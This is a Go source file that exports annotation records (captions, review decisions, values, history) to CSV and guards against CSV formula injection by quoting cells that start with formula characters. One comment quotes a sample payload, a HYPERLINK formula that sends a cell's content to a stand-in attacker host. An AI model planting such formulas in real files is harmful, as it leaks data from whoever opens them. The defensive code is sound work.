package export

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// csvHeader is the fixed column set (a streamed export cannot look ahead for the kinds present):
//
//	id, file_name, kind, subset, track, model, decision, decided_by,
//	text_<kind>_<lang> for the caption kinds and "prompt", en then zh,
//	<dimension>, <dimension>_source for the dimensions in review order,
//	history_events, history_annotators, history_accepts, history_rejects, history_flags, history_undos, history_last,
//	other: a JSON object with the texts and values no column holds ("" when none).
func csvHeader() []string {
	h := []string{"id", "file_name", "kind", "subset", "track", "model", "decision", "decided_by"}
	for _, k := range textKinds {
		h = append(h, "text_"+k+"_en", "text_"+k+"_zh")
	}
	for _, d := range dimensions {
		h = append(h, d, d+"_source")
	}
	return append(h, "history_events", "history_annotators", "history_accepts", "history_rejects",
		"history_flags", "history_undos", "history_last", "other")
}

// CSV writes one RFC 4180 row per record (columns: csvHeader) to the file o.Out; the pictures are
// copied as for JSONL (<file name>_images/<SafeName(id)>.<ext>, with the id's hash where a name would
// equal an earlier one but for case) and file_name is relative to the file's folder ("" when a record
// has none).
//
// A spreadsheet reads a cell that starts with = + - or @ (or a tab or carriage return) as a formula, so
// a caption like =HYPERLINK("http://evil.example/?x="&A1,"click") would become a live link: every text
// cell that starts so gets a leading ' (OWASP's advice on CSV injection), unless o.CSVRaw. The value
// columns hold numbers loupe formats itself (-1.5 is a number, not a formula) and are left as they are.
// With o.Excel the file begins with a UTF-8 byte order mark, which Excel needs to read UTF-8.
type CSV struct {
	*fileWriter
	c     *csv.Writer
	raw   bool
	names names
}

// NewCSV starts a CSV export (an existing output is refused unless o.Force).
func NewCSV(o Options) (Writer, error) {
	fw, err := openFile("csv", o)
	if err != nil {
		return nil, err
	}
	w := &CSV{fileWriter: fw, c: csv.NewWriter(fw.w), raw: o.CSVRaw, names: names{}}
	if o.Excel {
		if _, err := fw.w.WriteString("\uFEFF"); err != nil {
			fw.abort()
			return nil, err
		}
	}
	if err := w.c.Write(csvHeader()); err != nil {
		fw.abort()
		return nil, err
	}
	return w, nil
}

func formatFloat(v float64) string { return strconv.FormatFloat(v, 'f', -1, 64) }

// cell is a text cell as written: with a leading ' when a spreadsheet would read it as a formula.
func (c *CSV) cell(s string) string {
	if !c.raw && s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0 {
		return "'" + s
	}
	return s
}

// picture copies a record's picture into the images folder under a name no other picture of the export
// has, ignoring case, and returns its path relative to the output file's folder ("" when none).
func (c *CSV) picture(r *Record) (string, error) {
	if len(r.Image) == 0 {
		return "", nil
	}
	name := c.names.take(r.ID, SafeName(r.ID), imageExt(r))
	p, err := inside(filepath.Join(c.dir, c.images), name)
	if err != nil {
		return "", err
	}
	c.wrote = true
	if err := WriteAtomic(p, r.Image); err != nil {
		return "", fmt.Errorf("item %s: %w", r.ID, err)
	}
	return c.images + "/" + name, nil
}

// Write appends a record's row.
func (c *CSV) Write(r *Record) error {
	if c.done {
		return errors.New("csv export: write after close")
	}
	img, err := c.picture(r)
	if err != nil {
		return err
	}
	row := []string{c.cell(r.ID), c.cell(img), c.cell(r.Kind), c.cell(r.Subset), c.cell(r.Track), c.cell(r.Model),
		c.cell(r.Decision), c.cell(r.DecidedBy)}
	type other struct {
		Texts  map[string]map[string]string `json:"texts,omitempty"`
		Values map[string]Value             `json:"values,omitempty"`
	}
	var rest other
	known := map[string]bool{}
	for _, k := range textKinds {
		known[k] = true
		row = append(row, c.cell(r.Texts[k]["en"]), c.cell(r.Texts[k]["zh"]))
	}
	for k, langs := range r.Texts {
		for lang, s := range langs {
			if s != "" && (!known[k] || lang != "en" && lang != "zh") {
				if rest.Texts == nil {
					rest.Texts = map[string]map[string]string{}
				}
				if rest.Texts[k] == nil {
					rest.Texts[k] = map[string]string{}
				}
				rest.Texts[k][lang] = s
			}
		}
	}
	dims := map[string]bool{}
	for _, d := range dimensions {
		dims[d] = true
		v, ok := r.Values[d]
		if !ok {
			row = append(row, "", "")
			continue
		}
		row = append(row, formatFloat(v.Value), c.cell(v.Source))
	}
	keys := make([]string, 0, len(r.Values))
	for d := range r.Values {
		keys = append(keys, d)
	}
	sort.Strings(keys)
	for _, d := range keys {
		if v := r.Values[d]; !dims[d] && finite(v.Value) {
			if rest.Values == nil {
				rest.Values = map[string]Value{}
			}
			rest.Values[d] = v
		}
	}
	h := r.History
	row = append(row, strconv.Itoa(h.Events), strconv.Itoa(h.Annotators), strconv.Itoa(h.Accepts),
		strconv.Itoa(h.Rejects), strconv.Itoa(h.Flags), strconv.Itoa(h.Undos), c.cell(h.Last))
	extra := ""
	if rest.Texts != nil || rest.Values != nil {
		b, err := json.Marshal(rest)
		if err != nil {
			return fmt.Errorf("item %s: %w", r.ID, err)
		}
		extra = string(b)
	}
	row = append(row, c.cell(extra)) // a JSON object: starts with {
	if err := c.c.Write(row); err != nil {
		return err
	}
	return nil
}

// Close completes the file.
func (c *CSV) Close() error {
	if !c.done {
		c.c.Flush()
		if err := c.c.Error(); err != nil {
			c.abort()
			return err
		}
	}
	return c.close()
}

// Abort removes the unfinished file and its pictures.
func (c *CSV) Abort() { c.abort() }
